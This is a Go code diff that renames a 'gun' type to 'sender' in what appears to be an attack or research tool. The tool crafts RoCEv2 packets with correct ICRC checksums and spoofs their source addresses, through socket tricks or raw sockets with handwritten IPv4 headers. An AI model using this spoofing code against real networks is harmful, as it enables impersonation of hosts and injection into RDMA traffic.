@@ -30,8 +30,8 @@ const (
 	bySpoofing
 )
 
-// gun sends packets from one address to another.
-type gun struct {
+// sender sends packets from one address to another.
+type sender struct {
 	from, to netip.AddrPort
 	flow     wire.Flow
 	conn     *net.UDPConn
@@ -64,47 +64,47 @@ func localAddr(c *net.UDPConn) netip.AddrPort {
 	return netip.AddrPortFrom(a.Addr().Unmap(), a.Port())
 }
 
-// newGun sends from a socket of the attacker's own.
-func newGun(conn *net.UDPConn, to netip.AddrPort) *gun {
-	g := &gun{conn: conn, raw: -1, from: localAddr(conn), to: to}
-	g.aim()
-	return g
+// newSender sends from a socket of the attacker's own.
+func newSender(conn *net.UDPConn, to netip.AddrPort) *sender {
+	s := &sender{conn: conn, raw: -1, from: localAddr(conn), to: to}
+	s.prepare()
+	return s
 }
 
-func (g *gun) aim() {
-	g.flow = wire.NewFlow(g.from, g.to)
-	g.buf = make([]byte, 28, wire.MaxDatagramLen+28)
+func (s *sender) prepare() {
+	s.flow = wire.NewFlow(s.from, s.to)
+	s.buf = make([]byte, 28, wire.MaxDatagramLen+28)
 }
 
-// aimAs sends as somebody else, in the way of the vantage. own is an address of the attacker's.
-func aimAs(v vantage, own netip.Addr, from, to netip.AddrPort) (*gun, error) {
+// newSenderAs sends as somebody else, in the way of the vantage. own is an address of the attacker's.
+func newSenderAs(v vantage, own netip.Addr, from, to netip.AddrPort) (*sender, error) {
 	switch v {
 	case byPort:
 		conn, err := bind(netip.AddrPortFrom(from.Addr(), entropyPort(from)))
 		if err != nil {
 			return nil, err
 		}
-		return newGun(conn, to), nil
+		return newSender(conn, to), nil
 	case byOwnAddress:
 		conn, err := bind(netip.AddrPortFrom(own, 0))
 		if err != nil {
 			return nil, err
 		}
-		return newGun(conn, to), nil
+		return newSender(conn, to), nil
 	case byPacketInfo:
 		conn, err := bind(netip.AddrPortFrom(own, from.Port()))
 		if err != nil {
 			return nil, err
 		}
-		return newGun(conn, to).as(from), nil
+		return newSender(conn, to).as(from), nil
 	}
 	raw, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
 	if err != nil {
 		return nil, fmt.Errorf("open a raw socket: %w", err)
 	}
-	g := &gun{from: from, to: to, raw: raw}
-	g.aim()
-	return g, nil
+	s := &sender{from: from, to: to, raw: raw}
+	s.prepare()
+	return s, nil
 }
 
 // entropyPort is a source port that any sender of RoCEv2 may choose.
@@ -130,55 +130,55 @@ func packetInfo(from netip.Addr) []byte {
 	return unix.PktInfo6(&unix.Inet6Pktinfo{Addr: from.As16()})
 }
 
-// as returns a gun that sends from another address by the same socket.
-func (g *gun) as(from netip.AddrPort) *gun {
-	other := &gun{conn: g.conn, raw: -1, from: from, to: g.to, control: packetInfo(from.Addr())}
-	other.aim()
+// as returns a sender that sends from another address by the same socket.
+func (s *sender) as(from netip.AddrPort) *sender {
+	other := &sender{conn: s.conn, raw: -1, from: from, to: s.to, control: packetInfo(from.Addr())}
+	other.prepare()
 	return other
 }
 
-func (g *gun) close() {
-	if g.conn != nil {
-		_ = g.conn.Close()
+func (s *sender) close() {
+	if s.conn != nil {
+		_ = s.conn.Close()
 	}
-	if g.raw >= 0 {
-		_ = unix.Close(g.raw)
+	if s.raw >= 0 {
+		_ = unix.Close(s.raw)
 	}
 }
 
-// fire sends a packet with its padding and the right ICRC.
-func (g *gun) fire(p *wire.Packet) {
+// send sends a packet with its padding and the right ICRC.
+func (s *sender) send(p *wire.Packet) {
 	if p.PKey == 0 {
 		p.PKey = 0xffff
 	}
 	p.MigReq, p.Pad = true, uint8(-len(p.Payload)&3)
-	b := g.buf[28:cap(g.buf)]
+	b := s.buf[28:cap(s.buf)]
 	n := p.PutHeaders(b)
 	n += copy(b[n:], p.Payload)
 	n += copy(b[n:], make([]byte, p.Pad))
 	header := p.Opcode.HeaderLen()
-	crc := g.flow.ICRCStart(0, n+wire.ICRCLen, b[:header])
+	crc := s.flow.ICRCStart(0, n+wire.ICRCLen, b[:header])
 	wire.PutICRC(b[n:], wire.ICRCFinish(wire.ICRCUpdate(crc, b[header:n])))
-	g.fireBytes(b[:n+wire.ICRCLen])
+	s.sendBytes(b[:n+wire.ICRCLen])
 }
 
-// fireBytes sends the payload of a UDP packet. That it is lost is nothing new to networks.
-func (g *gun) fireBytes(b []byte) {
-	g.sent++
-	if g.raw < 0 {
-		_, _, _ = g.conn.WriteMsgUDPAddrPort(b, g.control, g.to)
+// sendBytes sends the payload of a UDP packet. That it is lost is nothing new to networks.
+func (s *sender) sendBytes(b []byte) {
+	s.sent++
+	if s.raw < 0 {
+		_, _, _ = s.conn.WriteMsgUDPAddrPort(b, s.control, s.to)
 		return
 	}
-	h := g.buf[:28]
+	h := s.buf[:28]
 	clear(h)
 	h[0], h[8], h[9] = 0x45, 64, unix.IPPROTO_UDP
 	binary.BigEndian.PutUint16(h[2:], uint16(28+len(b)))
 	h[6] = 0x40 // don't fragment
-	copy(h[12:], g.from.Addr().AsSlice())
-	copy(h[16:], g.to.Addr().AsSlice())
-	binary.BigEndian.PutUint16(h[20:], g.from.Port())
-	binary.BigEndian.PutUint16(h[22:], g.to.Port())
+	copy(h[12:], s.from.Addr().AsSlice())
+	copy(h[16:], s.to.Addr().AsSlice())
+	binary.BigEndian.PutUint16(h[20:], s.from.Port())
+	binary.BigEndian.PutUint16(h[22:], s.to.Port())
 	binary.BigEndian.PutUint16(h[24:], uint16(8+len(b)))
-	copy(g.buf[28:cap(g.buf)], b)
-	_ = unix.Sendto(g.raw, g.buf[:28+len(b)], 0, &unix.SockaddrInet4{Addr: g.to.Addr().As4()})
+	copy(s.buf[28:cap(s.buf)], b)
+	_ = unix.Sendto(s.raw, s.buf[:28+len(b)], 0, &unix.SockaddrInet4{Addr: s.to.Addr().As4()})
 }
